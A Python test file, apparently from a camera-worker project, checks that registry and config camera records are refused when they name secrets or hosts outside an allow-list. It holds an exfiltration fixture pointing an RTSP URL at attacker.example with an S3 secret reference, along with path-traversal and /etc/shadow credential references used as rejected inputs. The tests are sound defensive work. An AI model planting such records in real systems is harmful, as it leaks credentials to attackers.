"""Camera records may name only allow-listed secrets and hosts (registry -> secret exfiltration, issue #10.1).

Before the fix a registry record ``{url: rtsp://attacker/x, credentials: env:KUZET_S3_SECRET_KEY}`` was a
valid camera: the worker would put the S3 secret into the URL and connect to the attacker.
"""

from __future__ import annotations

from typing import Any

import pytest

from core.camera_policy import CameraPolicy, CameraPolicyError, policy_from_env
from core.config import CameraConfig, ConfigError, load_config
from event_bus import topics
from event_bus.consume import read_dead_letter
from event_bus.interfaces import InRecord
from tests.unit.test_registry_assignment import Rec, _assignment
from worker.registry import InvalidCameraRecord, decode_record, encode_camera, validate_camera
from worker.registry_dead_letters import registry_dead_letter

EXFIL = {"id": "cam-x", "url": "rtsp://attacker.example/x", "credentials": "env:KUZET_S3_SECRET_KEY"}


def _cam(**kw: Any) -> CameraConfig:
    return CameraConfig(**({"id": "cam-1", "url": "rtsp://10.20.1.5/live"} | kw))


@pytest.mark.parametrize(
    ("ref", "allowed"),
    [
        ("env:KUZET_CAM_GATE_1", True),
        ("env:KUZET_S3_SECRET_KEY", False),
        ("env:KUZET_CONSOLE_SIGNING_KEY", False),
        ("env:kuzet_cam_lower", False),  # environment names are case-sensitive
        ("file:/run/secrets/cameras/gate-1", True),
        ("file:/run/secrets/cameras/../kuzet/s3", False),
        ("file:/run/secrets/cameras/./gate-1", False),
        ("file:/run/secrets/cameras//gate-1", False),
        ("file:/run/secrets/cameras/sub/gate-1", False),  # "*" does not cross "/"
        ("file:/etc/shadow", False),
        ("file:/run/secrets/kuzet/s3", False),
    ],
)
def test_default_credential_allow_list(ref: str, allowed: bool) -> None:
    assert CameraPolicy().credential_allowed(ref) is allowed


def test_host_allow_list_networks_and_patterns() -> None:
    policy = CameraPolicy(hosts=["10.20.0.0/16", "*.cam.city.example", "fd00::/8"])
    assert policy.host_allowed("10.20.1.5") and policy.host_allowed("gate-1.cam.city.example")
    assert policy.host_allowed("GATE-1.CAM.CITY.EXAMPLE.") and policy.host_allowed("fd00::1")
    assert not policy.host_allowed("10.21.0.1") and not policy.host_allowed("attacker.example")
    assert not policy.host_allowed("cam.city.example.attacker.example")
    assert CameraPolicy().host_allowed("anything.example"), "no host rules: any host"
    with pytest.raises(ValueError, match="host rule"):
        CameraPolicy(hosts=["user@host"])
    with pytest.raises(ValueError, match="credential pattern"):
        CameraPolicy(credential_refs=["KUZET_CAM_*"])


def test_registry_record_naming_another_secret_is_refused() -> None:
    with pytest.raises(InvalidCameraRecord, match="allow-list") as err:
        decode_record(b"cam-x", encode_camera(_cam(**EXFIL)))
    assert "KUZET_S3_SECRET_KEY" in str(err.value), "the operator sees which reference was refused"
    assert decode_record(b"cam-1", encode_camera(_cam(credentials="env:KUZET_CAM_1"))).camera is not None


def test_registry_record_to_a_host_outside_the_networks_is_refused() -> None:
    policy = CameraPolicy(hosts=["10.20.0.0/16"])
    with pytest.raises(InvalidCameraRecord, match="allowed camera hosts"):
        decode_record(b"cam-1", encode_camera(_cam(url="rtsp://attacker.example/x")), policy)
    assert decode_record(b"cam-1", encode_camera(_cam()), policy).camera is not None


def test_cli_validation_uses_the_policy_from_the_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    with pytest.raises(InvalidCameraRecord, match="allow-list"):
        validate_camera(EXFIL)
    monkeypatch.setenv("KUZET_CAMERA_POLICY__CREDENTIAL_REFS", '["env:SITE_CAM_*"]')
    monkeypatch.setenv("KUZET_CAMERA_POLICY__HOSTS", '["10.0.0.0/8"]')
    assert policy_from_env().credential_refs == ["env:SITE_CAM_*"]
    assert validate_camera({"id": "c", "url": "rtsp://10.1.1.1/x", "credentials": "env:SITE_CAM_C"}).id == "c"
    with pytest.raises(InvalidCameraRecord, match="allowed camera hosts"):
        validate_camera({"id": "c", "url": "rtsp://192.168.1.1/x"})
    monkeypatch.setenv("KUZET_CAMERA_POLICY__HOSTS", "not json")
    with pytest.raises(CameraPolicyError, match="JSON list"):
        policy_from_env()


def test_config_file_cameras_are_checked_too(tmp_path: Any) -> None:
    path = tmp_path / "worker.yaml"
    path.write_text(
        "cameras:\n  - {id: cam-x, url: 'rtsp://attacker.example/x', credentials: 'env:KUZET_S3_SECRET_KEY'}\n"
    )
    with pytest.raises(ConfigError, match="allow-list"):
        load_config(path)
    path.write_text(
        "camera_policy: {credential_refs: ['env:SITE_*'], hosts: ['10.0.0.0/8']}\n"
        "cameras:\n  - {id: cam-1, url: 'rtsp://10.1.2.3/x', credentials: 'env:SITE_CAM_1'}\n"
    )
    assert load_config(path).cameras[0].credentials == "env:SITE_CAM_1"


def test_worker_assignment_skips_and_dead_letters_a_record_outside_the_policy() -> None:
    a, worker, _sunk, _events = _assignment(capacity=10)
    record = Rec(b"cam-x", encode_camera(_cam(**EXFIL)), 0)
    a.view.apply(record)
    a._reconcile()
    assert worker.camera_ids() == [] and a.invalid_records == 1
    letter = registry_dead_letter(record, a.view.policy, a.view.known_detectors, a.settings.group_id)
    assert letter is not None  # what the group's dead-lettering member writes for it (once)
    dead = read_dead_letter(InRecord(topics.DLQ, 0, 0, letter.key, letter.value, 0, letter.headers))
    assert "allow-list" in dead.error and dead.consumer == "kuzet-workers"
